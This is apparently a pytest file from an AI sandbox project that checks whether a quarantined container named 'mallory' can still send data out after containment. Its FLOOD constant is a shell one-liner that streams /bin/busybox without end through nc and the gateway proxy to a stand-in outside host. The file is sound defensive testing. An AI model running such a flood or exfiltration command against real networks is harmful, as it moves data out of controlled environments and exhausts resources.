"""A sandbox in quarantine on a real engine: from the moment at which it is contained nothing of it gets out."""

import asyncio
from datetime import UTC, datetime
from typing import Any

import pytest
from brokeredkit import brokered, provider
from dockerkit import sandbox
from provider_process import ADDRESS
from receiver import Receiver, receiver_in

from claude_sandbox.api.conditions import ConditionStatus
from claude_sandbox.localcluster.engine import EngineDescription

__all__ = ["provider"]

pytestmark = [pytest.mark.engine, pytest.mark.by_turns]

SINCE = datetime(2026, 11, 29, 12, tzinfo=UTC)
PORT = 8099
NAME = f"outside.example.org:{PORT}"
FLOOD = f"""
{{ printf 'POST http://{NAME}/ HTTP/1.1\\r\\nHost: {NAME}\\r\\nContent-Length: 1000000000000\\r\\n\\r\\n'
while :; do cat /bin/busybox; done; }} | nc claude-sandbox-gateway 3128
"""
"""For the agent: send without end, by the way that its spec allows."""


@pytest.mark.usefixtures("provider")
@pytest.mark.parametrize(
    "contained",
    [pytest.param(True, id="contained"), pytest.param(False, id="not contained", marks=pytest.mark.slow)],
)
async def test_nothing_gets_out_after_it_is_contained_not_even_what_its_gateway_had_taken(
    host: EngineDescription, *, contained: bool
) -> None:
    egress = {"privateNetworks": [f"{ADDRESS}/32"], "hosts": {"outside.example.org": [ADDRESS]}}
    spec: dict[str, Any] = brokered(network={"egress": {"allowedDomains": [NAME]}})
    with receiver_in(host.netns, ADDRESS, PORT) as outside:
        async with sandbox(host, "mallory", gateways={"egress": egress}, **spec) as mallory:
            await mallory.made()
            await mallory.started()
            command = ["/bin/sh", "-c", FLOOD]
            mallory.sdk.api.exec_start(mallory.sdk.api.exec_create(mallory.names.container, command)["Id"], detach=True)
            await _sent_to(outside)
            if contained:
                found = await mallory.backend.contain(mallory.identity, SINCE, {})
                assert found.status is ConditionStatus.TRUE, found
            else:
                # What would get out: that the receiver counts it is what makes the other case say something.
                mallory.sdk.api.pause(mallory.names.container)
                mallory.sdk.api.pause(mallory.names.gateway)
            got_out = await asyncio.to_thread(outside.after_now)
            if not contained:
                mallory.sdk.api.unpause(mallory.names.gateway)
    assert (got_out == 0) is contained, f"{got_out} bytes"


async def _sent_to(outside: Receiver) -> None:
    async with asyncio.timeout(120):
        await asyncio.to_thread(outside.wait_until_sent_to)
